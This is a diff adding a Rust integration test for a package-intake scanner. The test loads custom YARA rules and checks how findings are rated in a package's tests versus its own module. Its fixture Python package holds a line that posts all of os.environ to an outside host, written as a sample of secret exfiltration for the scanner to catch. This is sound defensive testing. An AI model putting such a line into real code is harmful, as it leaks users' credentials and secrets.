@@ -699,3 +699,125 @@ fn bad_input_exits_2_and_names_it() {
     assert_eq!(o.status.code(), Some(1));
     assert_eq!(json(&o)["reasons"][0]["rule"], "archive-unsafe-path");
 }
+
+/// `[deps.malware] rules` adds a folder of YARA rules (GuardDog 3.x conventions) to the
+/// built-in ones, each finding names its rule file and context; a deny-level finding in a
+/// package's tests only warns; a rule that does not compile stops the intake by name.
+#[test]
+fn rule_folders_from_zt_toml_and_findings_in_tests() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let rules = d.join("rules");
+    fs_err::create_dir_all(&rules).unwrap();
+    fs_err::write(
+        rules.join("threat-evil-marker.yar"),
+        "rule threat_evil_marker {\n meta:\n  description = \"the evil marker\"\n  zt_severity = \"deny\"\n  path_include = \"*.py\"\n strings:\n  $m = \"EVIL_MARKER(\"\n condition:\n  $m\n}\n",
+    )
+    .unwrap();
+    fs_err::write(d.join("zt.toml"), "[deps.malware]\nrules = [\"rules\"]\n").unwrap();
+    let setup =
+        b"from setuptools import setup\nsetup(name='p', install_requires=['urllib3>=1.21.1'])\n";
+    let bytes = gzip(&write_tar(&[
+        ("p-1.0/setup.py", setup, 0o644),
+        ("p-1.0/p/__init__.py", b"x = 1\n", 0o644),
+        (
+            "p-1.0/tests/test_x.py",
+            b"import os, requests\nrequests.post('https://example.org', data=os.environ)\nEVIL_MARKER()\n",
+            0o644,
+        ),
+    ]));
+    fs_err::write(d.join("p-1.0.tar.gz"), &bytes).unwrap();
+    let args = [
+        "deps",
+        "intake",
+        "p@1.0",
+        "--ecosystem",
+        "pypi",
+        "--archive",
+        "p-1.0.tar.gz",
+        "--allow-unknown-age",
+        "--json",
+    ];
+    let o = zt(d, &args);
+    let v = json(&o);
+    let malware: Vec<&str> = v["reasons"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["rule"].as_str().unwrap())
+        .filter(|r| !["no-approved-request", "checksum-missing"].contains(r))
+        .collect();
+    // nothing in tests rejects, and `urllib3` in install_requires is no network use
+    assert!(malware.is_empty(), "{malware:?}");
+    let findings = v["findings"].as_array().unwrap();
+    let marker = findings
+        .iter()
+        .find(|f| f["rule"] == "threat-evil-marker")
+        .unwrap();
+    assert_eq!(marker["context"], "tests");
+    assert_eq!(marker["severity"], "warn");
+    assert_eq!(marker["line"], 3);
+    assert_eq!(marker["source"]["kind"], "yara");
+    assert!(
+        marker["source"]["file"]
+            .as_str()
+            .unwrap()
+            .ends_with("rules/threat-evil-marker.yar")
+    );
+    let exfil = findings
+        .iter()
+        .find(|f| f["rule"] == "exfiltrate-sensitive-data")
+        .unwrap();
+    assert_eq!(
+        (
+            &exfil["context"],
+            &exfil["severity"],
+            &exfil["source"]["kind"]
+        ),
+        (&"tests".into(), &"warn".into(), &"semgrep".into())
+    );
+    assert_eq!(
+        exfil["source"]["file"],
+        "builtin/exfiltrate-sensitive-data.yml"
+    );
+
+    // the same code in the package's own module rejects, naming rule, file and context
+    let bytes = gzip(&write_tar(&[(
+        "p-1.0/p/__init__.py",
+        b"import os, requests\nrequests.post('https://example.org', data=os.environ)\nEVIL_MARKER()\n",
+        0o644,
+    )]));
+    fs_err::write(d.join("p-1.0.tar.gz"), &bytes).unwrap();
+    let v = json(&zt(d, &args));
+    let reasons: Vec<(&str, &str)> = v["reasons"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| (r["rule"].as_str().unwrap(), r["message"].as_str().unwrap()))
+        .collect();
+    let marker = reasons
+        .iter()
+        .find(|r| r.0 == "threat-evil-marker")
+        .unwrap();
+    assert!(
+        marker.1.starts_with("p-1.0/p/__init__.py:3:"),
+        "{}",
+        marker.1
+    );
+    assert!(marker.1.contains("code in"), "{}", marker.1);
+    assert!(
+        reasons.iter().any(|r| r.0 == "exfiltrate-sensitive-data"),
+        "{reasons:?}"
+    );
+
+    // a rule that does not compile: exit 2, the file named
+    fs_err::write(
+        rules.join("broken.yar"),
+        "rule broken { condition: $nope }\n",
+    )
+    .unwrap();
+    let o = zt(d, &args);
+    assert_eq!(o.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(err.contains("broken.yar"), "{err}");
+}
